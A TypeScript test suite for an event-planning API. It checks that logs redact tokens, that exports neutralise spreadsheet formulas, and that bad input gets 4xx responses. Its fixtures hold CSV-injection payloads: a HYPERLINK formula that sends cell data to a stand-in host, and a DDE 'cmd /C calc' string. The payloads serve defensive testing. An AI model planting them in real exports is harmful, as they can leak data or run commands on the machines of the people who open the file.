/**
 * Issue 16, items 3, 4 and 9: what the logs may say (no token, no secret, always the client's address),
 * CSV cells that cannot start a formula, and bad input answered with a 4xx (never 500), logged as a
 * warning without a stack, with the public routes checking their token or secret before the body.
 */
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Response } from 'superagent';
import type { Test } from 'supertest';
import { Role } from '@app/auth';
import type { User } from '@app/auth/user.entity';
import type { Edition } from '@app/editions/edition.entity';
import { linkToken } from '@app/invitations';
import type { Venue } from '@app/venues/venue.entity';
import { TEST_ENV } from './test-env';
import { createEdition, createLeader, createUser, createVenue, TEST_PASSWORD } from './utils/factories';
import { createTestApp, TestApp } from './utils/test-app';

const CLIENT = '203.0.113.7'; // TEST-NET-3: the address the (trusted) proxy says the client has
const TWO_MB_JSON = JSON.stringify({ answer: 'accept', filler: 'x'.repeat(2 * 1024 * 1024) });

/** supertest hands binary bodies over as a Buffer only when asked to. */
function binary(response: Response, done: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => done(null, Buffer.concat(chunks)));
}

interface LogLine {
  level: number;
  msg?: string;
  req?: { id: unknown; method: string; url: string; remoteAddress?: string };
  res?: { statusCode: number };
  err?: unknown;
}

describe('Security hardening (issue 16: logs, CSV formulas, bad input)', () => {
  let t: TestApp;
  const logText: string[] = [];
  const logs = () => logText.map((line) => JSON.parse(line) as LogLine);
  const webRoot = mkdtempSync(join(tmpdir(), 'ngayhoi-web-'));
  let planner: User;
  let plannerToken: string;
  let organizerToken: string;
  let edition: Edition;
  let venue: Venue;
  let invitationId: string;
  let rsvpToken: string;
  let feedToken: string;

  const as = (test: Test, token = plannerToken) => test.set('Authorization', `Bearer ${token}`).set('X-Forwarded-For', CLIENT);

  beforeAll(async () => {
    mkdirSync(join(webRoot, 'assets'));
    writeFileSync(join(webRoot, 'index.html'), '<!doctype html><title>Bảng điều hành</title><div id="root"></div>');
    t = await createTestApp(
      {
        LOG_LEVEL: 'info',
        TRUST_PROXY_HOPS: '1',
        WEB_ROOT: webRoot,
        LOGIN_RATE_LIMIT_PER_ACCOUNT: '3',
        LOGIN_RATE_LIMIT_PER_IP: '1000',
        LOGIN_RATE_WINDOW_SECONDS: '60',
      },
      { logs: { write: (line: string) => void logText.push(line) } },
    );
    planner = await createUser(t.dataSource, Role.CentralPlanner);
    organizerToken = await t.tokenFor(await createUser(t.dataSource, Role.ProvincialOrganizer, '12'));
    edition = await createEdition(t.dataSource);
    venue = await createVenue(t.dataSource, edition, '12', {
      scheduleOn: `${edition.year}-08-12`,
      name: '=HYPERLINK("https://lua-dao.example/?d="&A1;"Bấm vào đây")',
      communeName: '@SUM(1+1)*cmd|" /C calc"!A0',
      address: '\t=1+1, bản Nậm Cang',
    });
    // A leader's name (typed by a planner) and a substitute's (typed by anyone with the link) too.
    const leader = await createLeader(t.dataSource, { fullName: '+Lê Văn Công Thức' });
    const login = await t.http.post('/api/auth/login').set('X-Forwarded-For', CLIENT).send({ email: planner.email, password: TEST_PASSWORD }).expect(200);
    plannerToken = login.body.accessToken;
    await as(t.http.put(`/api/editions/${edition.id}/leaders/${leader.id}`).send({ title: 'Bộ trưởng', maxAppearances: 2 })).expect(200);
    await as(t.http.post(`/api/venues/${venue.id}/leaders`).send({ leaderId: leader.id, role: 'chief_guest' })).expect(201);
    invitationId = (await as(t.http.post('/api/invitations').send({ venueId: venue.id, leaderId: leader.id, role: 'chief_guest' })).expect(201)).body.id;
    await as(t.http.post(`/api/invitations/${invitationId}/send`)).expect(202);
    rsvpToken = linkToken(TEST_ENV.LINK_SECRET, 'rsvp', invitationId);
    // A feed token has this shape (256 random bits; the worker mails it): an unknown one is answered 404,
    // and what this suite checks is the request's log line.
    feedToken = randomBytes(32).toString('base64url');
  });
  afterAll(() => t.close());

  describe('logs (item 3)', () => {
    it('never write an RSVP or feed token, a password, a bearer token, a cookie or the inbound secret, and always the client address', async () => {
      const from = logText.length;
      const anonymous = (test: Test) => test.set('X-Forwarded-For', CLIENT);
      // The delegate's side: the page, an answer (also with the token repeated in a query), the feed.
      await anonymous(t.http.get(`/api/rsvp/${rsvpToken}`)).expect(200);
      await anonymous(t.http.post(`/api/rsvp/${rsvpToken}?token=${rsvpToken}`).type('form').send({ answer: 'accept' })).expect(200);
      await anonymous(t.http.get(`/api/calendar/${feedToken}.ics`));
      await anonymous(t.http.get(`/API/Calendar/${feedToken}.ics?k=${feedToken}`));
      // The relay, with its secret in the header and (misconfigured) in the path.
      await anonymous(
        t.http
          .post('/api/inbound/calendar-replies')
          .set('X-Inbound-Secret', TEST_ENV.INBOUND_HOOK_SECRET)
          .type('text/calendar')
          .send('BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'),
      ).expect(400);
      await anonymous(t.http.post(`/api/inbound/${TEST_ENV.INBOUND_HOOK_SECRET}/calendar-replies`).type('text/calendar').send('x'));
      // People: a wrong then a right password, the queue dashboard by cookie, a call by bearer token.
      await anonymous(t.http.post('/api/auth/login').send({ email: planner.email, password: 'mật-khẩu-sai-để-thử-nhật-ký' })).expect(401);
      const login = await anonymous(t.http.post('/api/auth/login').send({ email: planner.email, password: TEST_PASSWORD })).expect(200);
      const jwt: string = login.body.accessToken;
      await anonymous(t.http.get('/admin/queues').set('Cookie', `ngayhoi_token=${jwt}`));
      await anonymous(t.http.get('/api/auth/me').set('Authorization', `Bearer ${jwt}`)).expect(200);
      await anonymous(t.http.get(`/api/venues?editionId=${edition.id}&access_token=${jwt}`).set('Authorization', `Bearer ${jwt}`)).expect(400);

      const written = logText.slice(from).join('');
      const secrets = {
        rsvpToken,
        feedToken,
        inboundSecret: TEST_ENV.INBOUND_HOOK_SECRET,
        password: TEST_PASSWORD,
        wrongPassword: 'mật-khẩu-sai-để-thử-nhật-ký',
        jwt,
        jwtSignature: jwt.split('.')[2],
      };
      for (const [name, secret] of Object.entries(secrets)) expect({ name, found: written.includes(secret) }).toEqual({ name, found: false });

      const requests = logs()
        .slice(from)
        .filter((line) => line.req && line.res);
      expect(requests.length).toBeGreaterThanOrEqual(11);
      expect(requests.filter((line) => line.req!.remoteAddress !== CLIENT)).toEqual([]);
      // Redacted, not dropped: the log still says which kind of link was used.
      const urls = requests.map((line) => line.req!.url);
      expect(urls).toEqual(
        expect.arrayContaining([
          '/api/rsvp/[redacted]',
          '/api/rsvp/[redacted]?token=[redacted]',
          '/api/calendar/[redacted].ics',
          '/api/inbound/calendar-replies',
          '/api/inbound/[redacted]/calendar-replies',
        ]),
      );
    });
  });

  describe('CSV formula injection (item 4)', () => {
    it('neutralises every text cell that would start a formula, and the XLSX keeps them as text', async () => {
      const substitute = '=HYPERLINK("https://lua-dao.example/";"Người dự thay")';
      await t.http
        .post(`/api/rsvp/${rsvpToken}`)
        .type('form')
        .send({
          answer: 'substitute',
          substituteName: substitute,
          substitutePosition: '-Phó Giám đốc',
          substituteEmail: 'pho.giamdoc@congan.example.vn',
          substitutePhone: '0912345678',
        })
        .expect(200);

      const csv = await as(t.http.get(`/api/editions/${edition.id}/export?format=csv`))
        .buffer(true)
        .parse(binary)
        .expect(200);
      const records: string[][] = parse(csv.body, { bom: true });
      const [header, row] = records;
      const cell = (name: string) => row[header.indexOf(name)];
      expect(cell('Điểm tổ chức')).toBe(`'${venue.name}`);
      expect(cell('Xã/phường')).toBe(`'${venue.communeName}`);
      expect(cell('Địa chỉ')).toBe(`'${venue.address}`);
      expect(cell('Lãnh đạo dự')).toMatch(/^'\+Lê Văn Công Thức/);
      expect(cell('Trả lời mời')).toMatch(/^'\+Lê Văn Công Thức: Đề nghị cử người thay/);
      expect(cell('Trả lời mời')).toContain(substitute);
      // No cell of the file starts a formula; numbers (negative ones too) stay numbers.
      const dangerous = records.flat().filter((value) => /^[=+\-@\t\r]/.test(value) && !/^-?\d+(\.\d+)?$/.test(value));
      expect(dangerous).toEqual([]);

      const xlsx = await as(t.http.get(`/api/editions/${edition.id}/export?format=xlsx`))
        .buffer(true)
        .parse(binary)
        .expect(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx.body);
      const sheet = workbook.getWorksheet('Kế hoạch')!;
      let formulas = 0;
      sheet.eachRow((sheetRow) =>
        sheetRow.eachCell((sheetCell) => {
          if (sheetCell.type === ExcelJS.ValueType.Formula) formulas += 1;
        }),
      );
      expect(formulas).toBe(0);
      const venueCell = sheet.getRow(4).getCell(4);
      expect(venueCell.type).toBe(ExcelJS.ValueType.String);
      expect(venueCell.value).toBe(venue.name);
    });
  });

  describe('bad input (item 9)', () => {
    it('answers a 2 MB body with 413 and the error body, on login, a write, and a live RSVP link', async () => {
      for (const request of [
        t.http.post('/api/auth/login'),
        as(t.http.post('/api/venues')),
        as(t.http.patch(`/api/venues/${venue.id}`), organizerToken),
        t.http.post(`/api/rsvp/${rsvpToken}`),
      ]) {
        const response = await request.set('Content-Type', 'application/json').send(TWO_MB_JSON);
        expect({ status: response.status, body: response.body }).toEqual({
          status: 413,
          body: { code: 'PAYLOAD_TOO_LARGE', message: 'Dữ liệu gửi lên quá lớn.', details: { limitBytes: expect.any(Number) } },
        });
      }
      // Login, open to anyone, reads no more than an e-mail and a password need.
      const login = await t.http.post('/api/auth/login').send({ email: planner.email, password: 'x'.repeat(20_000) });
      expect({ status: login.status, details: login.body.details }).toEqual({ status: 413, details: { limitBytes: 16 * 1024 } });
    });

    it('checks the RSVP token and the inbound secret before reading a body, and gives each a small limit of its own', async () => {
      // No live link, no body read: the same page as any bad link.
      const unknown = await t.http
        .post(`/api/rsvp/${'A'.repeat(43)}`)
        .set('Content-Type', 'application/json')
        .send(TWO_MB_JSON);
      expect(unknown.status).toBe(404);
      expect(unknown.text).toContain('Liên kết không hợp lệ hoặc đã hết hạn.');
      // An RSVP form is a few fields: 20 kB is refused although it is far below the API's 1 MB.
      const padded = await t.http
        .post(`/api/rsvp/${rsvpToken}`)
        .type('form')
        .send({ answer: 'accept', note: 'x'.repeat(20_000) });
      expect(padded.status).toBe(413);

      const noSecret = await t.http.post('/api/inbound/calendar-replies').set('Content-Type', 'application/json').send(TWO_MB_JSON);
      expect(noSecret.status).toBe(401);
      expect(noSecret.body.code).toBe('UNAUTHENTICATED');
      const wrongSecret = await t.http
        .post('/api/inbound/calendar-replies')
        .set('X-Inbound-Secret', 'not-the-secret')
        .type('text/calendar')
        .send('x'.repeat(300_000));
      expect(wrongSecret.status).toBe(401);
      const relay = (body: string, type = 'text/calendar') =>
        t.http.post('/api/inbound/calendar-replies').set('X-Inbound-Secret', TEST_ENV.INBOUND_HOOK_SECRET).set('Content-Type', type).send(body);
      // One reply is a few kB: 100 kB is no reply (it used to be parsed, up to 256 kB).
      const big = await relay(`BEGIN:VCALENDAR\r\nX-PAD:${'x'.repeat(100_000)}\r\nEND:VCALENDAR\r\n`);
      expect({ status: big.status, code: big.body.code }).toEqual({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
      const json = await relay(TWO_MB_JSON, 'application/json');
      expect({ status: json.status, code: json.body.code }).toEqual({ status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' });
    });

    it('answers page and year far beyond any integer with 400 on every list route', async () => {
      const lists = [
        '/api/audit',
        '/api/users',
        '/api/editions',
        '/api/venues',
        '/api/leaders',
        '/api/invitations',
        `/api/editions/${edition.id}/resources`,
        `/api/editions/${edition.id}/planning-runs`,
      ];
      for (const list of lists) {
        for (const query of ['page=99999999999999999999', 'pageSize=99999999999999999999', 'page=2147483648', 'page=1e309']) {
          const response = await as(t.http.get(`${list}?${query}`));
          expect({ list, query, status: response.status, code: response.body.code }).toEqual({ list, query, status: 400, code: 'VALIDATION_FAILED' });
        }
      }
      for (const year of ['99999999999999999999', '2147483648', '-1']) {
        const response = await as(t.http.get(`/api/editions?year=${year}`));
        expect({ year, status: response.status }).toEqual({ year, status: 400 });
      }
    });

    it('logs client errors once, at warn, without a stack; nothing at error', async () => {
      const from = logText.length;
      await as(t.http.get('/api/venues?page=99999999999999999999')).expect(400);
      await as(t.http.get('/api/editions?year=99999999999999999999')).expect(400);
      await t.http.post('/api/auth/login').set('X-Forwarded-For', CLIENT).set('Content-Type', 'application/json').send(TWO_MB_JSON).expect(413);
      await t.http.post('/api/inbound/calendar-replies').set('X-Forwarded-For', CLIENT).send({ a: 1 }).expect(401);
      await t.http.get('/docs/nope').set('X-Forwarded-For', CLIENT).expect(404);
      const lines = logs().slice(from);
      expect(lines.filter((line) => line.level >= 50)).toEqual([]);
      expect(logText.slice(from).join('')).not.toMatch(/stack| {4}at /);
      const requests = lines.filter((line) => line.req && line.res);
      expect(requests.map((line) => [line.res!.statusCode, line.level, line.req!.remoteAddress])).toEqual([
        [400, 40, CLIENT],
        [400, 40, CLIENT],
        [413, 40, CLIENT],
        [401, 40, CLIENT],
        [404, 40, CLIENT],
      ]);
    });

    it('answers unknown paths under /api, /docs, /metrics and /admin with the JSON 404, never the console page', async () => {
      for (const path of ['/api/nope', '/docs/nope', '/docs/openapi.json/x', '/metrics/nope', '/admin/nope', '/API/nope', '/Docs/nope', '/METRICS/x', '/Api']) {
        const response = await t.http.get(path);
        expect({ path, status: response.status, type: response.headers['content-type'], body: response.body }).toEqual({
          path,
          status: 404,
          type: expect.stringContaining('application/json'),
          body: { code: 'NOT_FOUND', message: 'Không tìm thấy tài nguyên được yêu cầu.' },
        });
      }
      const post = await t.http.post('/nowhere').send({});
      expect({ status: post.status, code: post.body.code }).toEqual({ status: 404, code: 'NOT_FOUND' });
      // What the API does serve outside /api still answers, and so does the console.
      await t.http.get('/docs/openapi.json').expect(200);
      await t.http.get('/metrics').expect(200);
      expect((await t.http.get('/diem/moi').expect(200)).text).toContain('Bảng điều hành');
    });

    it('answers the login limit with 429 and a standard Retry-After header', async () => {
      const user = await createUser(t.dataSource, Role.Viewer);
      const attempt = () => t.http.post('/api/auth/login').set('X-Forwarded-For', '198.51.100.9').send({ email: user.email, password: 'đoán-mò-mật-khẩu' });
      for (let i = 0; i < 3; i += 1) await attempt().expect(401);
      const blocked = await attempt().expect(429);
      expect(blocked.body).toMatchObject({ code: 'TOO_MANY_LOGIN_ATTEMPTS', message: expect.any(String) });
      const retryAfter = Number(blocked.headers['retry-after']);
      expect(Number.isInteger(retryAfter)).toBe(true);
      expect(retryAfter).toBeGreaterThan(0);
      expect(retryAfter).toBeLessThanOrEqual(60);
      expect(blocked.body.details.retryAfterSeconds).toBe(retryAfter);
    });
  });
});
